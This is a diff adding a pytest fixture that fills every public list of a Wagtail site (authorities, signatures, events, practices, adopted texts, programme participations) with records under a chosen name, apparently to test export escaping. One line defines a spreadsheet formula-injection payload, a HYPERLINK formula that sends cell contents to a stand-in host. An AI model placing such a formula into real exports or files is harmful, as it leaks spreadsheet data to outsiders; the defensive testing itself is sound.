@@ -1,0 +1,69 @@
+import datetime
+
+import pytest
+
+HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
+
+
+@pytest.fixture
+def every_list(db):
+    """One record in each public list, each named with `name`: a participant, a verified
+    signature, an event, a published practice, an adopted text and a programme participation."""
+    from wagtail.models import Locale
+
+    from alliance.authorities.countries import ensure_countries
+    from alliance.authorities.models import Authority, Country
+    from alliance.declaration.models import Signature, Status
+    from alliance.events.models import Event
+    from alliance.library.models import AdoptedText
+    from alliance.participants.models import Participation
+    from alliance.practices.models import GoodPractice
+    from alliance.practices.models import Status as PracticeStatus
+    from alliance.programmes.models import Phase, Programme, ProgrammeParticipation
+
+    def make(name, code="AL", slug="hostile-town", adopted_on=datetime.date(2014, 3, 26)):
+        ensure_countries()
+        Locale.objects.get_or_create(language_code="en")
+        country = Country.objects.get(code=code)
+        authority = Authority.objects.create(
+            name=name, slug=slug, country=country, level="local", latitude=40.6, longitude=20.8
+        )
+        Participation.objects.create(
+            authority=authority,
+            accession_number=Participation.objects.count() + 1,
+            joined_on=datetime.date(2014, 1, 10),
+        )
+        Signature.objects.create(
+            signer_name=name,
+            office=name,
+            show_name=True,
+            authority_name=name,
+            country=country,
+            level="local",
+            status=Status.VERIFIED,
+            signed_on=datetime.date(2018, 7, 16),
+            email="signer@town.example",
+        )
+        Event.objects.create(
+            title=name, slug=slug, start_date=datetime.date(2019, 5, 1), city=name, country=country
+        )
+        GoodPractice.objects.create(
+            title_en=name,
+            summary_en=name,
+            theme="education",
+            authority=authority,
+            status=PracticeStatus.PUBLISHED,
+        )
+        AdoptedText.objects.create(
+            text_type="resolution", adopted_on=adopted_on, title_en=name, title_fr=name
+        )
+        programme, _ = Programme.objects.get_or_create(slug="romact", name_en="ROMACT", name_fr="ROMACT")
+        phase, _ = Phase.objects.get_or_create(
+            programme=programme, name_en="Phase 1", name_fr="Phase 1", starts_on=datetime.date(2014, 1, 1)
+        )
+        ProgrammeParticipation.objects.create(
+            programme=programme, phase=phase, authority=authority, joined_on=datetime.date(2014, 1, 1)
+        )
+        return authority
+
+    return make
